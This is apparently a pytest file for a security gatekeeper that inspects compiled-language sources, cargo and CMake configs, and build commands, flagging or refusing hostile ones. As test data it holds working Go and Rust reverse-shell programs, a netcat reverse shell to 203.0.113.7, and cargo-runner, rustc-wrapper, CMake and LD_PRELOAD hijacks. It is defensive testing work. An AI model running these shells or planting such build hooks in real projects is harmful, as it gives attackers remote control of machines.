"""Compiled languages and their builds: what written Go, Rust, C, TypeScript, cargo and CMake
files would do (``inspectors/written_code``), and which builds run them (``shell_runs``)."""

from __future__ import annotations

import pytest

from gatekeeper.inspectors import InspectContext
from gatekeeper.inspectors.shell import files_run, inspect_shell
from gatekeeper.inspectors.shell_runs import CARGO_KINDS, COMPILED_KINDS, GO_KINDS, split_tree, tree
from gatekeeper.inspectors.written_code import analyse_written, code_kind
from tests.corpus.test_corpus import evaluate

W = "/workspace"
NC = "nc -e /bin/sh 203.0.113.7 4444"
GO_REVERSE = """package main

import (
\t"net"
\t"os/exec"
)

func main() {
\tc, _ := net.Dial("tcp", "203.0.113.7:4444")
\tcmd := exec.Command("/bin/sh")
\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
\tcmd.Run()
}
"""
GO_HELLO = 'package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println("Hello, world!")\n}\n'
GO_SERVICE = """package main

import (
\t"encoding/json"
\t"log"
\t"net/http"
\t"net/http/httptest"
\t"testing"
)

type Item struct {
\tID   int    `json:"id"`
\tName string `json:"name"`
}

func handler(w http.ResponseWriter, r *http.Request) {
\tjson.NewEncoder(w).Encode([]Item{{1, "a"}})
}

func TestHandler(t *testing.T) {
\treq := httptest.NewRequest("GET", "/items", nil)
\trr := httptest.NewRecorder()
\thandler(rr, req)
\tif rr.Code != http.StatusOK {
\t\tt.Fatalf("got %d, want 200 from %s", rr.Code, "/items")
\t}
}

func main() {
\thttp.HandleFunc("/items", handler)
\tlog.Fatal(http.ListenAndServe(":8080", nil))
}
"""
RUST_REVERSE = """use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
fn main() {
    let s = TcpStream::connect("203.0.113.7:4444").unwrap();
    let fd = s.as_raw_fd();
    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn().unwrap();
}
"""
RUST_HELLO = """use std::collections::HashMap;
fn main() {
    let mut counts: HashMap<&str, usize> = HashMap::new();
    for w in "a b a".split_whitespace() {
        *counts.entry(w).or_insert(0) += 1;
    }
    println!("{} distinct words: {:?}", counts.len(), counts);
}
"""


def _names(path: str, content: str) -> set[str]:
    return {c.name for c in analyse_written(path, content).capabilities}


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        (f"{W}/main.go", "go"),
        (f"{W}/src/lib.rs", "rust"),
        (f"{W}/build.rs", "rust"),
        (f"{W}/x.c", "c"),
        (f"{W}/x.h", "c"),
        (f"{W}/x.cc", "c"),
        (f"{W}/x.cpp", "c"),
        (f"{W}/x.hpp", "c"),
        (f"{W}/app.ts", "javascript"),
        (f"{W}/App.tsx", "javascript"),
        (f"{W}/x.mts", "javascript"),
        (f"{W}/x.cts", "javascript"),
        (f"{W}/asm_amd64.s", "asm"),
        (f"{W}/rsrc.syso", "object"),
        (f"{W}/Cargo.toml", "cargo"),
        (f"{W}/.cargo/config.toml", "cargo-config"),
        (f"{W}/sub/.cargo/config", "cargo-config"),
        (f"{W}/rust-toolchain.toml", "rust-toolchain"),
        (f"{W}/CMakeLists.txt", "cmake"),
        (f"{W}/cmake/deps.cmake", "cmake"),
        (f"{W}/config.toml", None),  # not cargo's unless under .cargo/
    ],
)
def test_kinds_of_compiled_sources(path: str, kind: str | None) -> None:
    assert code_kind(path, "") == kind


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        (
            f"{W}/main.go",
            GO_REVERSE,
            {"proc.spawn", "net.connect:203.0.113.7:4444", f"proc.inline_code:{W}/main.go"},
        ),
        (f"{W}/main.rs", RUST_REVERSE, {"proc.spawn", "net.connect:203.0.113.7:4444"}),
        (f"{W}/x.c", '#include <stdlib.h>\nint main(){ return system("id"); }\n', {"proc.spawn"}),
        (f"{W}/x.c", "int main(){ int s = socket(2, 1, 0); return s; }\n", {f"proc.inline_code:{W}/x.c"}),
        (f"{W}/x.c", 'int main(){ __asm__("syscall"); }\n', {f"proc.inline_code:{W}/x.c"}),
        (
            f"{W}/x.go",
            'package x\nimport "syscall"\nfunc f() { syscall.Syscall(59, 0, 0, 0) }\n',
            {f"proc.inline_code:{W}/x.go"},
        ),
        # A command line in a string is read as one, wherever it is: a build script as well.
        (
            f"{W}/build.rs",
            f'fn main() {{ let _ = std::process::Command::new("sh").arg("-c").arg("{NC}"); }}\n',
            {"net.reverse_shell", "proc.spawn"},
        ),
        # cgo: the preamble is C, and its constructor runs when the binary starts.
        (
            f"{W}/c.go",
            "package main\n// #include <stdlib.h>\n"
            '// static void __attribute__((constructor)) f(void) { system("id"); }\nimport "C"\n',
            {"proc.spawn"},
        ),
        # Rust doc comments are doctests: cargo test runs them.
        (
            f"{W}/lib.rs",
            f'/// ```\n/// std::process::Command::new("sh").arg("-c").arg("{NC}").spawn();\n'
            f"/// ```\npub fn f() {{}}\n",
            {"net.reverse_shell"},
        ),
        (
            f"{W}/x.ts",
            f'import {{ execSync }} from "child_process";\nexecSync("{NC}");\n',
            {"net.reverse_shell"},
        ),
        (f"{W}/x_amd64.s", "TEXT ·f(SB),$0\n\tSYSCALL\n", {f"proc.inline_code:{W}/x_amd64.s"}),
        (f"{W}/x.syso", "\x7fELF", {"shell.opaque"}),
        (f"{W}/big.go", "package main\n" + "// x\n" * 70_000, {f"proc.inline_code:{W}/big.go"}),
    ],
)
def test_what_compiled_source_would_do(path: str, content: str, expected: set[str]) -> None:
    assert expected <= _names(path, content)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        (f"{W}/main.go", GO_HELLO),
        (f"{W}/main.go", GO_SERVICE),  # struct tags, routes, a request in a test: nothing more
        (f"{W}/src/main.rs", RUST_HELLO),
        (f"{W}/hello.c", '#include <stdio.h>\nint main(int c, char **v) { printf("hi %s\\n", v[0]); }\n'),
        (
            f"{W}/x.cpp",
            "#include <functional>\n"
            "int main() { auto f = std::bind([](int x){ return x; }, 1); return f(); }\n",
        ),
        (
            f"{W}/build.rs",
            'fn main() {\n    println!("cargo:rerun-if-changed=src/foo.c");\n'
            '    cc::Build::new().file("src/foo.c").compile("foo");\n}\n',
        ),
        (f"{W}/gen.go", "package x\n\n//go:generate stringer -type=Pill\ntype Pill int\n"),
        (
            f"{W}/Cargo.toml",
            '[package]\nname = "x"\nversion = "0.1.0"\n[dependencies]\n'
            'serde = { version = "1", features = ["derive"] }\n',
        ),
        (
            f"{W}/.cargo/config.toml",
            '[build]\nrustflags = ["-C", "target-cpu=native"]\n[env]\n'
            'RUST_LOG = "debug"\n[alias]\nxtask = "run --package xtask --"\n',
        ),
        (f"{W}/rust-toolchain.toml", '[toolchain]\nchannel = "1.79"\ncomponents = ["rustfmt", "clippy"]\n'),
        (f"{W}/rust-toolchain", "stable\n"),
        (
            f"{W}/CMakeLists.txt",
            "cmake_minimum_required(VERSION 3.16)\nproject(x C)\nadd_executable(x main.c)\n"
            "add_custom_target(fmt COMMAND clang-format -i main.c)\n",
        ),
    ],
)
def test_ordinary_compiled_source_is_nothing_more(path: str, content: str) -> None:
    names = _names(path, content)
    assert not {
        n
        for n in names
        if n.startswith(("net.", "shell.opaque", "proc.inline_code", "proc.spawn", "fs.read:/i"))
    }, names


def test_go_generate_lines_are_a_part_run_by_go_generate_only() -> None:
    """``//go:generate`` lines are command lines go generate runs: they are the file's part
    (``#go:generate``, kind go-generate), not what go run/test inherit; ``-command`` aliases."""
    got = analyse_written(f"{W}/gen.go", f"package x\n//go:generate -command gen {NC}\n//go:generate gen\n")
    assert "net.reverse_shell" not in {c.name for c in got.capabilities}
    ((path, part),) = [(p, c) for p, c in got.parts if c.kind == "go-generate"]
    assert path == f"{W}/gen.go#go:generate" and part.kind == "go-generate"
    assert "net.reverse_shell" in {c.name for c in part.capabilities}
    stringer = analyse_written(f"{W}/p.go", "package p\n//go:generate stringer -type=Pill\n")
    assert {c.name for c in stringer.parts[0][1].capabilities} == {"proc.exec:stringer"}
    assert stringer.capabilities == ()
    ran = analyse_written(f"{W}/p.go", "package p\n//go:generate python3 gen.py\n").parts[0][1]
    assert f"{W}/gen.py" in ran.imports  # the script it runs is inherited with it


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (f'[target.x86_64-unknown-linux-gnu]\nrunner = "{NC}"\n', "net.reverse_shell"),
        (f'[target.\'cfg(unix)\']\nrunner = ["sh", "-c", "{NC}"]\n', "net.reverse_shell"),
        (f'[build]\nrustc-wrapper = "{NC}"\n', "net.reverse_shell"),
        (f'[build]\nrustc-workspace-wrapper = "{NC}"\n', "net.reverse_shell"),
        (f'[build]\nrustc = "{NC}"\n', "net.reverse_shell"),
        (f'[target.x86_64-unknown-linux-gnu]\nlinker = "{NC}"\n', "net.reverse_shell"),
        (f'[build]\nrustflags = ["-C", "linker={W}/evil.sh"]\n', f"proc.exec:{W}/evil.sh"),
        ('[build]\nrustflags = ["-C", "link-arg=-Wl,-z,now", "-Z", "x"]\n', "shell.opaque"),
        ('[env]\nLD_PRELOAD = "/workspace/x.so"\n', "shell.opaque"),
        ('[env]\nRUSTC_WRAPPER = { value = "/workspace/w.sh", force = true }\n', "shell.opaque"),
        ('[alias]\nb = "build --config build.rustc-wrapper=x"\n', "shell.opaque"),
        (f'[registry]\nglobal-credential-providers = ["{NC}"]\n', "net.reverse_shell"),
        ('[http]\nproxy = "203.0.113.7:3128"\n', "net.proxy"),
        (
            '[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "https://mirror.example/index"\n',
            "net.egress:mirror.example:443",
        ),
        ('[target.x86_64-unknown-linux-gnu.foo]\nrustc-link-lib = ["foo"]\n', "shell.opaque"),
        ('paths = ["/tmp/crates"]\n', "shell.opaque"),
        ("not toml [", "shell.opaque"),
    ],
)
def test_a_cargo_config_is_code_for_cargo(content: str, expected: str) -> None:
    assert expected in _names(f"{W}/.cargo/config.toml", content)


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        (f"{W}/rust-toolchain.toml", '[toolchain]\npath = "/workspace/tc"\n', "shell.opaque"),
        (
            f"{W}/Cargo.toml",
            '[dependencies]\nx = { git = "https://203.0.113.7/x.git" }\n',
            "net.egress:203.0.113.7:443",
        ),
        (f"{W}/CMakeLists.txt", f"execute_process(COMMAND {NC})\n", "net.reverse_shell"),
        (
            f"{W}/CMakeLists.txt",
            f'add_custom_command(OUTPUT x COMMAND sh -c "{NC}" DEPENDS y)\n',
            "net.reverse_shell",
        ),
        (f"{W}/CMakeLists.txt", f"add_custom_target(x ALL {NC})\n", "net.reverse_shell"),
        (f"{W}/CMakeLists.txt", 'cmake_language(EVAL CODE "${X}")\n', f"proc.inline_code:{W}/CMakeLists.txt"),
        (f"{W}/CMakeLists.txt", "file(DOWNLOAD http://203.0.113.9/x.sh x.sh)\n", "net.egress:203.0.113.9:80"),
    ],
)
def test_toolchain_manifest_and_cmake_files(path: str, content: str, expected: str) -> None:
    assert expected in _names(path, content)


def test_a_cargo_manifest_names_its_build_script() -> None:
    got = analyse_written(f"{W}/Cargo.toml", '[package]\nname = "x"\nbuild = "tools/gen.rs"\n')
    assert f"{W}/tools/gen.rs" in got.imports


def test_a_makefile_recipe_that_runs_go_pulls_in_the_go_it_runs() -> None:
    """make test runs go test ./...: the Makefile's record carries the Go tree (and a script's
    python3 y.py carries y.py), so running it inherits what was written there."""
    mk = analyse_written(f"{W}/Makefile", "test:\n\tgo test ./...\nrun:\n\tpython3 tools/y.py\n")
    assert tree(W + "/", GO_KINDS) in mk.imports and f"{W}/tools/y.py" in mk.imports
    sh = analyse_written(f"{W}/ci.sh", "#!/bin/sh\ncargo build --release\n")
    assert tree(W + "/", CARGO_KINDS) in sh.imports


def test_trees_say_their_kinds_and_pytest_trees_stay_python() -> None:
    assert tree(f"{W}/tests") == f"{W}/tests/**"
    assert split_tree(f"{W}/tests/**") == (f"{W}/tests/", frozenset({"python"}))
    assert split_tree(tree(W, GO_KINDS)) == (f"{W}/", frozenset(GO_KINDS))
    assert split_tree(f"{W}/x.py") is None
    assert split_tree(f"{W}/a:b/c") is None


ROOTS = (W, "/tmp")


@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("go run main.go", {tree(r, GO_KINDS) for r in ROOTS}),
        ("go run .", {tree(r, GO_KINDS) for r in ROOTS}),
        ("go test ./...", {tree(r, GO_KINDS) for r in ROOTS}),
        ("go test -run TestX -v ./pkg/...", {tree(r, GO_KINDS) for r in ROOTS}),
        ("cd cmd/x && go run .", {tree(r, GO_KINDS) for r in ROOTS}),  # imports ../../internal
        ("go -C sub test ./cmd/x", {tree(r, GO_KINDS) for r in ROOTS}),
        ("go tool mytool", {tree(r, GO_KINDS) for r in ROOTS}),  # a tool the module declares
        ("go generate ./...", {tree(r, ("go-generate",)) for r in ROOTS}),
        ("go build ./...", set()),  # builds run no package code
        ("go vet ./...", set()),
        ("go install ./cmd/x", set()),
        ("go mod tidy", set()),
        ("go tool pprof cpu.out", set()),
        (
            "cargo fmt",
            {
                f"{W}/.cargo/config.toml",
                f"{W}/.cargo/config",
                f"{W}/rust-toolchain.toml",
                f"{W}/rust-toolchain",
            },
        ),
        ("rustfmt src/main.rs", {f"{W}/rust-toolchain.toml", f"{W}/rust-toolchain"}),
        ("cmake -E echo hi", set()),
        ("cmake -S . -B build", {tree(r, ("cmake",)) for r in ROOTS}),
        ("cmake --build build", {tree(r, ("cmake",)) for r in ROOTS}),
    ],
)
def test_builds_that_run_written_code(cmd: str, expected: set[str]) -> None:
    assert files_run({"cmd": cmd}, W) == expected


CARGO_CONFIGS = {
    f"{W}/.cargo/config.toml",
    f"{W}/.cargo/config",
    f"{W}/rust-toolchain.toml",
    f"{W}/rust-toolchain",
}


@pytest.mark.parametrize(
    "cmd",
    [
        "cargo run",
        "cargo test",
        "cargo build --release",
        "cargo bench",
        "cargo check",
        "cargo clippy",
        "cargo doc",
        "cargo install --path .",
        "cargo r",
        "cargo t",
    ],
)
def test_cargo_verbs_that_build_run_build_scripts_and_read_the_config(cmd: str) -> None:
    assert files_run({"cmd": cmd}, W) == {tree(r, CARGO_KINDS) for r in ROOTS} | CARGO_CONFIGS


def test_cargo_reads_the_config_above_the_working_directory_and_the_manifest() -> None:
    got = files_run({"cmd": "cd a/b && cargo test --manifest-path /workspace/c/Cargo.toml"}, W)
    for d in (W, f"{W}/a", f"{W}/a/b", f"{W}/c"):
        assert {f"{d}/.cargo/config.toml", f"{d}/rust-toolchain.toml"} <= got
    unknown = files_run({"cmd": 'cd "$X" && cargo fmt'}, W)
    assert tree(W, ("cargo-config", "rust-toolchain")) in unknown


@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # Options and variables that run another program in the build are refused or held.
        ("go test -exec /tmp/x ./...", "deny"),
        ("go test -exec 'bash -c id' ./...", "deny"),
        ("go build -toolexec=/tmp/x .", "deny"),
        ("go run -toolexec /workspace/w.sh .", "deny"),
        ("GOFLAGS=-toolexec=/tmp/x go build .", "escalate"),
        ("GOFLAGS='-exec=/tmp/x' go test ./...", "escalate"),
        ("go vet -vettool=/tmp/x ./...", "escalate"),
        ("go env -w GOFLAGS=-toolexec=/tmp/x", "escalate"),
        ("cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"' run", "escalate"),
        ("cargo --config extra.toml build", "escalate"),
        ("RUSTC_WRAPPER=/tmp/x cargo build", "escalate"),
        ("CARGO_BUILD_RUSTC_WRAPPER=/tmp/x cargo build", "escalate"),
        ("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=sh cargo run", "escalate"),
        ("RUSTFLAGS='-C linker=/tmp/x' cargo build", "escalate"),
        ("cargo +nightly build", "escalate"),
        # Compilers the pack does not allow stay refused, and with them what they build.
        ("rustc x.rs && ./x", "deny"),
        # C compilers are allowed: flags and variables that run other programs are not.
        ("gcc -fplugin=/tmp/p.so x.c -o x && ./x", "escalate"),
        ("cc -B/tmp/t x.c && ./a.out", "escalate"),
        ("GCC_EXEC_PREFIX=/tmp/t/ clang x.c", "escalate"),
        ("gcc x.c -o x -Wl,--plugin=/tmp/lto.so", "escalate"),
    ],
)
def test_other_routes_to_running_a_build_are_refused_or_held(cmd: str, expected: str) -> None:
    got = evaluate({"tool": "shell.exec", "arguments": {"cmd": cmd}})
    assert got.outcome == expected, got.explain()


@pytest.mark.parametrize(
    "cmd", ["go test ./...", "go run .", "cargo test", "cargo build", "go build ./...", "cmake -B build"]
)
def test_ordinary_builds_stay_allowed(cmd: str) -> None:
    got = evaluate({"tool": "shell.exec", "arguments": {"cmd": cmd}})
    assert got.outcome == "allow", got.explain()


def test_written_and_built_in_one_command_line() -> None:
    """cat > main.go <<EOF ... go test ./...: the Go tree covers the file the command wrote."""
    cmd = f"cat > main.go <<'EOF'\n{GO_REVERSE}EOF\ngo test ./..."
    caps = {c.name for c in inspect_shell(cmd, InspectContext())}
    assert "proc.spawn" in caps, caps
    gen = f"cat > g.go <<'EOF'\npackage x\n//go:generate {NC}\nEOF\ngo generate ./..."
    assert "net.reverse_shell" in {c.name for c in inspect_shell(gen, InspectContext())}
    ok = "cat > g.go <<'EOF'\npackage x\n//go:generate stringer -type=P\nEOF\ngo test ./..."
    assert "proc.exec:stringer" not in {c.name for c in inspect_shell(ok, InspectContext())}


@pytest.mark.parametrize("cmd", ["gcc x.c -o x && ./x", "cc -c src/a.c", "cd sub && clang++ main.cpp"])
def test_a_c_compiler_inherits_the_c_of_the_workspace(cmd: str) -> None:
    """What it compiles runs when the program does (often in the same command): the call carries
    the records of the C, C++ and assembly written anywhere in the workspace, as go run does."""
    assert tree(W, COMPILED_KINDS) in files_run({"cmd": cmd}, W)
